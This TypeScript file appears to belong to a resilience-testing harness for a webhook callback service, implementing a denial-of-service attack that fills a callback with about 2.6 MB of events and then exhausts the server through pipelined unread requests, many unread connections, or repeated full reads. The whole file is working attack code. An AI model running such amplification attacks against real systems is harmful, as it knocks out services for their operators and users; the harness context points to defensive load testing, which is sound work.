/**
 * Attack 2: one callback with ten events of 262,144 control characters, of which each is six characters of JSON, so that an
 * answer to `GET .../events` is 15.7 MB (reliability 202). Three ways to ask for it.
 */
import { ask, nameOf } from './ask.ts';
import { type Attack, attackerAt, BEGUN, BUYER, Counts, type Figures, Repeated, type Target } from './attack.ts';
import { bearer, buyCallback, type Callback, Purse } from './purse.ts';
import { headOf, Wires } from './wire.ts';

const EVENT_COUNT = 10;
const EVENT_BYTES = 262_144;
/** Before the ten minutes of the callback are over. */
const REFILL_MS = 480_000;
const RENEW_MS = 40_000;
const READ_TIMEOUT_MS = 60_000;
/** A reader that is refused asks again at the pace of a person. */
const REFUSED_PAUSE_MS = 200;

/** Buys a callback and fills it. @throws Error */
async function filledCallback(target: Target): Promise<Callback> {
  const from = BUYER;
  const callback = await buyCallback(target, new Purse(target, from), from);
  const body = Buffer.alloc(EVENT_BYTES, 1);
  for (let i = 0; i < EVENT_COUNT; i++) {
    const headers = { 'content-type': 'text/plain' };
    const reply = await ask(target, { method: 'POST', path: `/hooks/${callback.id}`, from, headers, body });
    if (reply.status !== 200) throw new Error(`event ${i}: ${nameOf(reply)}`);
  }
  return callback;
}

abstract class HeavyReads implements Attack {
  protected readonly counts = new Counts();
  protected readonly loop = new Repeated();
  protected callback: Callback | undefined;

  async start(target: Target): Promise<void> {
    this.callback = await filledCallback(target);
    this.#refillLater(target);
    this.read(target);
  }

  #refillLater(target: Target): void {
    this.loop.after(REFILL_MS, () => {
      void filledCallback(target).then(
        (callback) => {
          this.callback = callback;
        },
        () => this.counts.add('refill refused'),
      );
      this.#refillLater(target);
    });
  }

  protected abstract read(target: Target): void;

  protected head(target: Target, index: number): string {
    const callback = this.callback!; // from `start` on
    const path = `/v1/callbacks/${callback.id}/events`;
    return headOf(target, 'GET', path, attackerAt(index), `Authorization: Bearer ${callback.read_token}`);
  }

  stop(): void {
    this.loop.stop();
  }

  get figures(): Figures {
    return this.counts.figures;
  }
}

/** Pipelined reads on one socket, whose answers stay unread. */
export class PipelinedReads extends HeavyReads {
  readonly #readCount: number;
  #wires: Wires | undefined;

  /** @param intensity reads in the pipeline */
  constructor(intensity: number) {
    super();
    this.#readCount = intensity;
  }

  protected read(target: Target): void {
    const bytes = (index: number): Buffer => Buffer.from(this.head(target, index).repeat(this.#readCount));
    const plan = { count: 1, from: attackerAt, bytes, isReading: false, renewMs: RENEW_MS, reopenMs: 1000 };
    this.#wires = new Wires(target, plan, this.counts);
    this.#wires.open();
  }

  override stop(): void {
    super.stop();
    this.#wires?.close();
  }
}

/** One read a connection, unread. */
export class UnreadReads extends HeavyReads {
  readonly #count: number;
  #wires: Wires | undefined;

  /** @param intensity connections at a time */
  constructor(intensity: number) {
    super();
    this.#count = intensity;
  }

  protected read(target: Target): void {
    const bytes = (index: number): Buffer => Buffer.from(this.head(target, index));
    const plan = { count: this.#count, from: attackerAt, bytes, isReading: false, renewMs: RENEW_MS, reopenMs: 1000 };
    this.#wires = new Wires(target, plan, this.counts);
    this.#wires.open();
  }

  override stop(): void {
    super.stop();
    this.#wires?.close();
  }
}

/** Ordinary readers: each reads the whole answer and asks again. */
export class OrdinaryReaders extends HeavyReads {
  readonly #count: number;

  /** @param intensity readers at a time */
  constructor(intensity: number) {
    super();
    this.#count = intensity;
  }

  protected read(target: Target): void {
    for (let index = 0; index < this.#count; index++) this.#readAgain(target, attackerAt(index));
  }

  #readAgain(target: Target, from: string): void {
    if (this.loop.isStopped) return;
    this.counts.add(BEGUN);
    const { id, read_token } = this.callback!; // from `start` on
    const headers = bearer({ id, read_token });
    void ask(target, { path: `/v1/callbacks/${id}/events`, from, headers, timeoutMs: READ_TIMEOUT_MS }).then(
      (reply) => {
        this.counts.add(nameOf(reply));
        this.loop.after(reply.status === 200 ? 0 : REFUSED_PAUSE_MS, () => this.#readAgain(target, from));
      },
    );
  }
}
